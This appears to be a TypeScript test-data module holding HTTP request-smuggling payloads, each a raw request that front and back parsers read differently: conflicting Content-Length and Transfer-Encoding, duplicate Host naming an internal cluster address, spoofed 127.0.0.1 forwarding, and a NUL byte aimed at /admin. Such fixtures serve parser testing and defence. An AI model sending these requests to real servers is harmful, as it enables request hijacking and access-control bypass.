// Requests that two parsers read differently: what a smuggler sends. Data only: a name and the bytes for a host and path.

/** Builds the raw bytes of one request. */
type Build = (host: string, path: string) => readonly string[];

/** Each row is one trick; lines are joined with CRLF unless they carry their own line end. */
export const differentials: Readonly<Record<string, Build>> = {
  'content-length and transfer-encoding': (host, path) => [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Content-Length: 6',
    'Transfer-Encoding: chunked',
    '',
    '0',
    '',
    'G',
  ],
  'two content-lengths': (host, path) => [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Content-Length: 5',
    'Content-Length: 0',
    '',
    'hello',
  ],
  'obsolete line folding': (host, path) => [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}`,
    'X-Forwarded-For: 10.0.0.7,',
    '  127.0.0.1',
    '',
    '',
  ],
  'two hosts': (host, path) => [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Host: internal.shop.svc.cluster.local',
    '',
    '',
  ],
  'space before the colon': (host, path) => [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Transfer-Encoding : chunked',
    'Content-Length: 0',
    '',
    '',
  ],
  'unknown transfer-encoding': (host, path) => [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Transfer-Encoding: xchunked',
    '',
    '0',
    '',
    '',
  ],
  'bad chunk size': (host, path) => [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Transfer-Encoding: chunked',
    '',
    '0x5',
    'hello',
    '0',
    '',
    '',
  ],
  'bare line feeds': (host, path) => [`GET ${path} HTTP/1.1\nHost: ${host}\nX-Trick: yes\n\n`],
  'NUL in a header': (host, path) => [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}`,
    'X-Original-Url: /admin\u0000.css',
    '',
    '',
  ],
};

/** The bytes of a named trick. */
export function differentialBytes(name: string, host: string, path: string): Buffer {
  const build = differentials[name];
  if (build === undefined) throw new Error(`no differential is called ${name}`);
  return Buffer.from(build(host, path).join('\r\n'), 'latin1');
}
